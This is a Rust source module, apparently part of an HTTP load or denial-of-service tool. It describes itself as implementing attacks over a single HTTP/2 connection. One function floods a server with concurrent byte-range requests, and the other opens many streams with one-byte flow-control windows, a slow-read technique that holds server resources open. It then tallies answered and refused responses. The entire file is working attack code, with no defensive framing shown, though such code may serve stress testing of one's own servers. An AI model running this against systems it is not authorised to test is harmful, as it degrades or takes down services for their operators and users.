//! Attacks over one HTTP/2 connection: a fixed number of streams that fetch piece after piece, or streams that
//! let one byte through at a time.

use std::future::Future;
use std::sync::Arc;

use bytes::Bytes;
use h2::client::{Builder, Connection, SendRequest};
use http::header::RANGE;
use http::{Request, StatusCode};
use tokio::sync::Mutex;
use tokio::task::JoinSet;

use super::answers::Counted;
use super::{Attack, Pieces, Problem, Wire};

/// Fetches pieces over `stream`, `at_a_time` at once, until the connection or one of its streams fails.
pub(super) async fn ask(
    attack: Arc<Attack>,
    stream: Wire,
    pieces: Pieces,
    at_a_time: u32,
) -> Result<(), Problem> {
    let (requests, connection) = h2::client::handshake(stream).await?;
    let pieces = Arc::new(Mutex::new(pieces));
    let streams = (0..at_a_time).map(|_| {
        let (attack, pieces) = (Arc::clone(&attack), Arc::clone(&pieces));
        let requests = requests.clone();
        async move {
            loop {
                let range = pieces.lock().await.next_range();
                one(&attack, requests.clone(), Some(&range)).await?;
            }
        }
    });
    until_one_ends(connection, streams).await
}

/// Fetches the whole file over `stream`, `at_a_time` times at once, with windows of one byte.
pub(super) async fn trickle(
    attack: Arc<Attack>,
    stream: Wire,
    at_a_time: u32,
) -> Result<(), Problem> {
    let handshake = Builder::new()
        .initial_window_size(1)
        .handshake::<_, Bytes>(stream);
    let (requests, connection) = handshake.await?;
    let streams = (0..at_a_time).map(|_| {
        let (attack, requests) = (Arc::clone(&attack), requests.clone());
        async move { one(&attack, requests, None).await }
    });
    until_one_ends(connection, streams).await
}

/// Drives a connection and its streams until the first of them ends, and drops the others.
async fn until_one_ends(
    connection: Connection<Wire, Bytes>,
    streams: impl Iterator<Item = impl Future<Output = Result<(), Problem>> + Send + 'static>,
) -> Result<(), Problem> {
    let mut all: JoinSet<Result<(), Problem>> = JoinSet::new();
    all.spawn(async move { Ok(connection.await?) });
    streams.for_each(|stream| drop(all.spawn(stream)));
    match all.join_next().await {
        Some(ended) => ended?,
        None => Ok(()),
    }
}

/// Sends one request and reads its response as it arrives.
async fn one(
    attack: &Attack,
    requests: SendRequest<Bytes>,
    range: Option<&str>,
) -> Result<(), Problem> {
    let scheme = if attack.tls.is_some() {
        "https"
    } else {
        "http"
    };
    let uri = format!("{scheme}://{}{}", attack.config.server, attack.config.path);
    let mut requests = requests.ready().await?;
    let mut request = Request::get(&uri);
    if let Some(range) = range {
        request = request.header(RANGE, range);
    }
    let (response, _) = requests.send_request(request.body(())?, true)?;
    let response = response.await?;
    let counts = matches!(
        response.status(),
        StatusCode::OK | StatusCode::PARTIAL_CONTENT
    );
    attack.totals.add(Counted {
        refused: u64::from(!counts),
        ..Counted::default()
    });
    let mut body = response.into_body();
    while let Some(data) = body.data().await {
        let length = data?.len();
        body.flow_control().release_capacity(length)?;
        attack.totals.add(Counted {
            body_bytes: if counts { length as u64 } else { 0 },
            ..Counted::default()
        });
    }
    attack.totals.add(Counted {
        answered: 1,
        ..Counted::default()
    });
    Ok(())
}
